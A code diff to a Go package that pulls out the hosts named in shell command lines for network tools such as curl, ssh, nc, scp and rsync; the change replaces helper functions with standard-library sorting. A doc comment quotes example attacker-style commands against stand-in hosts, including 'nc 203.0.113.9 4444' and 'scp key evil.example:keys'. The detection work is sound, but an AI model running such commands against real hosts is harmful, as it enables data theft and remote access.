@@ -1,6 +1,7 @@
 package shellcmd
 
 import (
+	"maps"
 	"slices"
 	"strings"
 
@@ -113,7 +114,7 @@ var dialers = map[string]dialer{
 	"sftp":        {short: "BbcDFiJlLoPRSsX", hostOptions: []string{"-J"}, operands: 1},
 	"ssh-copy-id": {short: "ioFpJ", hostOptions: []string{"-J"}, operands: 1},
 	"scp":         {short: "cFiJlLoPSDX", hostOptions: []string{"-J"}, colon: true},
-	"rsync":       {short: "eBfMT@", long: keysOf(remoteCopyValueOptions["rsync"]), colon: true},
+	"rsync":       {short: "eBfMT@", long: slices.Sorted(maps.Keys(remoteCopyValueOptions["rsync"])), colon: true},
 	"ftp":         {short: "P", operands: 1}, "tftp": {operands: 1}, "lftp": {short: "eupfc", operands: 1},
 	"ping": {short: "cfiIlmMpQsStTwW"}, "ping6": {short: "cfiIlmMpQsStTwW"},
 	"traceroute": {short: "fgimNpqswtxzAM"}, "traceroute6": {short: "fgimNpqswtxzAM"}, "tracepath": {short: "lmp"},
@@ -135,15 +136,6 @@ var dialers = map[string]dialer{
 // gitDialing are git's commands that reach a repository an operand names.
 var gitDialing = []string{"clone", "fetch", "pull", "push", "ls-remote", "remote", "submodule", "archive"}
 
-func keysOf(m map[string]bool) []string {
-	out := make([]string, 0, len(m))
-	for k := range m {
-		out = append(out, k)
-	}
-	slices.Sort(out)
-	return out
-}
-
 // Hosts returns the hosts a command line gives a program that connects to
 // them — curl get.evil.example, wget 203.0.113.9/x, ssh deploy.evil.example,
 // nc 203.0.113.9 4444, scp key evil.example:keys, git clone
@@ -156,23 +148,14 @@ func keysOf(m map[string]bool) []string {
 func Hosts(line string) []string {
 	c := collector{hosts: map[string]bool{}}
 	c.line(line, 0)
-	return c.hostList()
+	return slices.Sorted(maps.Keys(c.hosts))
 }
 
 // ArgvHosts is Hosts of an argument vector.
 func ArgvHosts(argv []string) []string {
 	c := collector{hosts: map[string]bool{}}
 	c.argv(argv, 0)
-	return c.hostList()
-}
-
-func (c *collector) hostList() []string {
-	out := make([]string, 0, len(c.hosts))
-	for h := range c.hosts {
-		out = append(out, h)
-	}
-	slices.Sort(out)
-	return out
+	return slices.Sorted(maps.Keys(c.hosts))
 }
 
 func (c *collector) addHost(word string, colon bool) {
